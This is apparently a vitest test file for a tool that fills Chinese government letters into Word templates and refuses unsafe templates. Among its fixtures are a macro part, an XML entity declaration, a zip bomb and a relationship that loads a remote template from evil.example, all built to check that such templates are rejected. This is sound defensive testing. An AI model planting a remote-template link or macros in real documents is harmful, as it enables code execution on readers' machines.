import { Document, Footer, Header, Packer, Paragraph, Table, TableCell, TableRow, TextRun } from 'docx';
import { strFromU8, strToU8, unzipSync, zipSync } from 'fflate';
import mammoth from 'mammoth';
import { describe, expect, test } from 'vitest';
import { hostileTexts, samplePaper, sampleTexts } from '../sample.ts';
import { fillTemplate, templateFault } from './template.ts';
import { parse } from './xml.ts';

const bare = (text: string) => text.replace(/\s/g, '');
const body = (text = '{{正文}}') =>
  new Paragraph({
    indent: { firstLine: 640 },
    spacing: { line: 560 },
    children: [new TextRun({ text, font: '仿宋_GB2312', size: 32 })],
  });

async function officeDocx(children: (Paragraph | Table)[] = [body()]): Promise<Uint8Array> {
  const document = new Document({
    creator: '模板作者',
    sections: [
      {
        headers: { default: new Header({ children: [new Paragraph('县自然资源局公文 {{文号}}')] }) },
        footers: { default: new Footer({ children: [new Paragraph('{{机关}}印制')] }) },
        children: [
          new Paragraph({ text: '示范县自然资源局文件', alignment: 'center' }),
          ...children,
          new Paragraph('（内部传阅）'),
        ],
      },
    ],
  });
  return new Uint8Array(await Packer.toBuffer(document));
}

const partsOf = (bytes: Uint8Array) =>
  Object.fromEntries(Object.entries(unzipSync(bytes)).map(([name, part]) => [name, strFromU8(part)]));

function changed(bytes: Uint8Array, change: (parts: Record<string, Uint8Array>) => void): Uint8Array {
  const parts = { ...unzipSync(bytes) };
  change(parts);
  return zipSync(parts);
}
const added = (bytes: Uint8Array, name: string, part: Uint8Array) =>
  changed(bytes, (parts) => {
    parts[name] = part;
  });
const replaced = (bytes: Uint8Array, part: string, from: string | RegExp, to: string) =>
  changed(bytes, (parts) => {
    parts[part] = strToU8(strFromU8(parts[part] ?? new Uint8Array()).replace(from, to));
  });

describe('a letter in the template of its office', () => {
  test('stands between what stood before and after the placeholder, in reading order', async () => {
    const { value } = await mammoth.extractRawText({
      buffer: Buffer.from(fillTemplate(await officeDocx(), samplePaper)),
    });
    let rest = bare(value);
    for (const expected of ['示范县自然资源局文件', ...sampleTexts.slice(4).map(bare), '（内部传阅）']) {
      expect(rest).toContain(expected);
      rest = rest.slice(rest.indexOf(expected) + 1);
    }
    expect(value).not.toContain('{{');
  });

  test('keeps header, footer and styles, and fills the marks in them', async () => {
    const template = await officeDocx();
    const before = partsOf(template);
    const after = partsOf(fillTemplate(template, samplePaper));
    expect(Object.keys(after).sort()).toEqual(Object.keys(before).sort());
    expect(after['word/styles.xml']).toBe(before['word/styles.xml']);
    expect(after['word/header1.xml']).toContain(`县自然资源局公文 ${samplePaper.number}`);
    expect(after['word/footer1.xml']).toContain(`${samplePaper.signature.unit}印制`);
    // where the header has the number, the text does not repeat it
    expect(after['word/document.xml']).not.toContain(samplePaper.number);
  });

  test('takes the looks of the placeholder', async () => {
    const { 'word/document.xml': text = '' } = partsOf(fillTemplate(await officeDocx(), samplePaper));
    const [first] = /<w:p>(?:(?!<\/w:p>).)*你提出的政府信息公开申请.*?<\/w:p>/.exec(text) ?? [''];
    expect(first).toContain('w:firstLine="640"');
    expect(first).toContain('仿宋_GB2312');
  });

  test('fills a mark that Word has split over runs', async () => {
    const split = new Paragraph({
      children: ['编号{', '{文', '号}}（', '{{日期}}）'].map((text) => new TextRun(text)),
    });
    const { value } = await mammoth.extractRawText({
      buffer: Buffer.from(fillTemplate(await officeDocx([split, body()]), samplePaper)),
    });
    expect(bare(value)).toContain(`编号${samplePaper.number}（2026年3月5日）`);
  });

  test('shows markup literally and stays well-formed', async () => {
    const blocks = hostileTexts.map((text) => ({ kind: 'paragraph' as const, text }));
    const filled = fillTemplate(await officeDocx(), { ...samplePaper, blocks });
    for (const [name, part] of Object.entries(partsOf(filled)))
      if (name.endsWith('.xml')) expect(() => parse(part)).not.toThrow();
    const { value } = await mammoth.extractRawText({ buffer: Buffer.from(filled) });
    for (const hostile of hostileTexts) expect(bare(value)).toContain(bare(hostile));
  });

  test('names the office, not who made the template, and has equal bytes for equal papers', async () => {
    const template = await officeDocx();
    const filled = fillTemplate(template, samplePaper);
    expect(partsOf(filled)['docProps/core.xml']).not.toContain('模板作者');
    expect(Buffer.from(fillTemplate(template, samplePaper)).equals(Buffer.from(filled))).toBe(true);
  });
});

describe('a template', () => {
  test('that has its place is taken', async () => {
    expect(templateFault(await officeDocx())).toBeNull();
  });

  const table = () => new Table({ rows: [new TableRow({ children: [new TableCell({ children: [body()] })] })] });
  test.each([
    ['没有占位段落', () => [new Paragraph('正文')], '缺少占位段落'],
    ['有两处占位段落', () => [body(), body()], '只能出现一次'],
    ['占位符与其他文字同段', () => [body('如下：{{正文}}')], '独占一段'],
    ['占位符在表格里', () => [table()], '独占一段'],
    ['写错了占位符', () => [body(), new Paragraph('{{文号 }}')], '不认识的占位符'],
  ])('%s is refused by name', async (_name, children, fault) => {
    expect(templateFault(await officeDocx(children()))?.zh).toContain(fault);
  });

  test('with its place in a text box alone is told that this is no place, not that there are two', async () => {
    const box = (inside: string) =>
      `<w:r><w:pict><v:textbox><w:txbxContent><w:p><w:r><w:t>${inside}</w:t></w:r></w:p></w:txbxContent></v:textbox></w:pict></w:r>`;
    const boxed = replaced(
      await officeDocx([new Paragraph('正文见框内')]),
      'word/document.xml',
      /<w:r><w:t[^>]*>正文见框内<\/w:t><\/w:r>/,
      box('{{正文}}'),
    );
    expect(templateFault(boxed)?.zh).toContain('独占一段');
    const besides = replaced(
      await officeDocx(),
      'word/document.xml',
      '<w:sectPr',
      `<w:p>${box('{{日期}}')}</w:p><w:sectPr`,
    );
    expect(templateFault(besides)).toBeNull();
    expect(partsOf(fillTemplate(besides, samplePaper))['word/document.xml']).toContain('>2026年3月5日</w:t>');
  });

  test.each([
    ['macros', (bytes: Uint8Array) => added(bytes, 'word/vbaProject.bin', strToU8('x')), '宏'],
    [
      'a macro type',
      (bytes: Uint8Array) =>
        replaced(
          bytes,
          '[Content_Types].xml',
          /wordprocessingml\.document\.main/,
          'ms-word.document.macroEnabled.main',
        ),
      '宏',
    ],
    ['another document in it', (bytes: Uint8Array) => added(bytes, 'word/embeddings/a.bin', strToU8('x')), '嵌有'],
    [
      'a template far away',
      (bytes: Uint8Array) =>
        replaced(
          bytes,
          'word/_rels/document.xml.rels',
          '</Relationships>',
          '<Relationship Id="x" Type="http://schemas.openxmlformats.org/officeDocument/2006/relationships/attachedTemplate" Target="http://evil.example/t.dotm" TargetMode="External"/></Relationships>',
        ),
      '外部',
    ],
    [
      'entities',
      (bytes: Uint8Array) =>
        replaced(bytes, 'word/document.xml', '<w:document', '<!DOCTYPE x [<!ENTITY a "b">]><w:document'),
      '损坏',
    ],
    ['half of its bytes', (bytes: Uint8Array) => bytes.slice(0, bytes.length / 2), '损坏'],
    ['the content of a text file', () => strToU8('{{正文}}'), '损坏'],
  ])('with %s is refused', async (_name, spoil, fault) => {
    expect(templateFault(spoil(await officeDocx()))?.zh).toContain(fault);
  });

  test('that unpacks to more than a letter can be is refused before it is unpacked', async () => {
    const bomb = added(await officeDocx(), 'word/media/a.bin', new Uint8Array(41 * 1024 * 1024));
    expect(bomb.length).toBeLessThan(1024 * 1024);
    expect(templateFault(bomb)?.zh).toContain('展开后过大');
  });
});
